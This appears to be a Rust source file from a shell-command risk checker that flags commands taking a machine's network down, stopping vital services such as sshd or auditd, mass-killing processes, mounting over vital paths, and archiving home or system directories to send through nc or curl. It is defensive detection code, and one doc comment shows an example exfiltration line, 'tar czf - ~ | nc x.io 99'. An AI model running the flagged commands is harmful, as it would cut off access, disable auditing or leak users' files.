//! Dangers to the machine itself: its network, the services that it is reached by, and processes by the dozen.

use sayso_core::analysis::risk::Tier::Dangerous;

use super::call::{Call, Found};
use super::critical_paths::{Worth, worth};
use crate::unparsed::split::Segment;
use crate::unparsed::words::head;

/// The dangers of a program that works on the machine.
pub(crate) fn of(call: &Call<'_>, found: &mut Vec<Found>) {
    if let Some(what) = what(call) {
        found.push((Dangerous, what));
    }
}

fn what(call: &Call<'_>) -> Option<String> {
    let name = call.name;
    let is = |at: usize, words: &[&str]| words.contains(&call.operand(at));
    let network =
        |holds: bool| holds.then(|| format!("`{name}` takes the network of the machine away"));
    match name {
        "ip" => {
            let objects = ["link", "l", "route", "r", "ro", "addr", "address", "a"];
            network(
                is(0, &objects)
                    && (call.operand(1) == "set" && call.has("down")
                        || is(1, &["flush", "f"])
                        || is(1, &["del", "delete", "d"])
                            && (call.has("default") || call.operand(0).starts_with('l'))),
            )
        }
        "ifconfig" => {
            network(call.operands().next_back() == Some("down") && call.operands().count() > 1)
        }
        "ifdown" => network(call.exact),
        "nmcli" => network(
            is(0, &["networking", "n", "net", "radio"])
                && call.operands().next_back() == Some("off"),
        ),
        "tc" => network(
            is(0, &["qdisc"])
                && is(1, &["add", "replace"])
                && call.has("netem")
                && call.has("100%"),
        ),
        "systemctl" | "service" | "rc-service" => {
            let stops = call.has_any(&["stop", "disable", "mask", "kill"]);
            let service = call.operands().find(|word| is_needed(word));
            service
                .filter(|_| stops)
                .map(|service| format!("`{name}` stops `{service}`, which the machine needs"))
        }
        "kill" => {
            let listed = call.arguments.iter().find(|word| {
                (word.contains("pgrep") || word.contains("pidof")) && word.contains("-u")
            });
            listed.map(|_| "`kill` signals everything of a person".to_owned())
        }
        "nix-collect-garbage" => call
            .arguments
            .iter()
            .any(|word| word == "-d" || word.starts_with("--delete-old"))
            .then(|| format!("`{name}` deletes the earlier states of the system")),
        "mount" => {
            let over = call.operands().next_back()?;
            let hides = call.exact
                && worth(over) == Worth::Vital
                && call.operands().count() > 1
                && (call.starts(&["-t", "--type", "-o", "-B", "--bind"])
                    || call.operand(0).starts_with('/'))
                && !matches!(
                    over.trim_end_matches('/'),
                    "/mnt" | "/media" | "/tmp" | "/srv"
                )
                && !call.arguments.iter().any(|word| word.contains("remount"));
            hides.then(|| format!("`mount` puts something else in the place of `{over}`"))
        }
        "http.server" | "serve" | "http-server" => {
            let shown = call
                .arguments
                .iter()
                .find(|word| worth(word) == Worth::Vital)?;
            Some(format!("`{name}` shows `{shown}` to other machines"))
        }
        _ => None,
    }
}

/// The dangers of a line that sends a whole home, or the system, to another machine: `tar czf - ~ | nc x.io 99`.
pub(crate) fn of_line(segments: &[Segment], found: &mut Vec<Found>) {
    let sends = |segment: &Segment| {
        segment.piped
            && matches!(
                head(&segment.words),
                Some("nc" | "ncat" | "netcat" | "curl")
            )
    };
    let packs = |segment: &Segment| {
        matches!(
            head(&segment.words),
            Some("tar" | "zip" | "cpio" | "gtar" | "bsdtar" | "7z")
        )
    };
    if !segments.iter().any(sends) {
        return;
    }
    let path = segments
        .iter()
        .filter(|segment| packs(segment))
        .flat_map(|segment| &segment.words)
        .find(|word| worth(word) == Worth::Vital);
    if let Some(path) = path {
        found.push((
            Dangerous,
            format!("sends all of `{path}` to another machine"),
        ));
    }
}

/// Whether a machine is not reached, or not used, without a service.
fn is_needed(service: &str) -> bool {
    matches!(
        service.strip_suffix(".service").unwrap_or(service),
        "ssh"
            | "sshd"
            | "dbus"
            | "systemd-networkd"
            | "NetworkManager"
            | "networking"
            | "network"
            | "systemd-resolved"
            | "systemd-logind"
            | "firewalld"
            | "ufw"
            | "auditd"
            | "gdm"
            | "lightdm"
            | "sddm"
            | "cron"
            | "crond"
    )
}
